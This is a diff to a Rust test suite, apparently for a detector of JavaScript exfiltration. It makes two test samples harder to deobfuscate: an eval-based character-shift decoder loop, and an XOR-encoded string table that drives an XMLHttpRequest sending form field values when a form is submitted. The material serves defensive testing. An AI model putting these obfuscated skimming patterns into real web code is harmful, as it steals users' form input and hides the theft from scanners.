@@ -91,8 +91,8 @@ fn sloppy_mode_shift_loop_through_unescape_and_this_eval() {
     // Shift every character down by 2, as the decoder adds 2 back.
     let enc: String = payload().chars().map(|c| char::from(c as u8 - 2)).collect();
     let code = format!(
-        "var s={},o=\"\",n;n=s['length'];for(i=0;i<n;i++){{o+=String['fromCharCode'](s['charCodeAt'](i)+2)}}\
-         var run=this['unescape'](o);this['eval'](run);",
+        "var s={},o=\"\",run=\"\",n;n=s['length'];for(i=0;i<n;i++){{o+=String['fromCharCode'](s['charCodeAt'](i)+2)}}\
+         run=this['unescape'](o);this['eval'](run);",
         js_str(&enc)
     );
     assert_exfiltration("sloppy-mode loop", &code);
@@ -126,15 +126,16 @@ fn start_up_table_read_through_a_summing_accessor() {
         "value",
     ];
     let joined = words.join(",");
-    let codes: Vec<String> = joined.bytes().map(|b| b.to_string()).collect();
+    // Hex codes XOR 7, decoded through `map` and `apply`: more than the evaluator folds.
+    let codes: Vec<String> = joined.bytes().map(|b| format!("{:x}", b ^ 7)).collect();
     // Each accessor call sums to the word's index.
     let code = format!(
-        "(function(){{var T=String.fromCharCode({}).split(String.fromCharCode(44));\
+        "(function(){{var T=String.fromCharCode.apply(null,'{}'.split(' ').map(function(h){{return parseInt(h,16)^7}})).split(String.fromCharCode(44));\
          function g(){{var a=arguments,s=0,i;for(i=0;i<a.length;i++)s+=a[i];return T[s]}}\
          (function(){{var D=document;function go(){{var x=new XMLHttpRequest();\
          x[g(1,-1)](g(2,-1),g(4,-2));x[g(5,-2)](D[g(6,-2)](g(2,3))[g(9,-3)])}}\
          D.addEventListener('submit',go,false)}})()}})();",
-        codes.join(",")
+        codes.join(" ")
     );
     assert_exfiltration("start-up table", &code);
 }
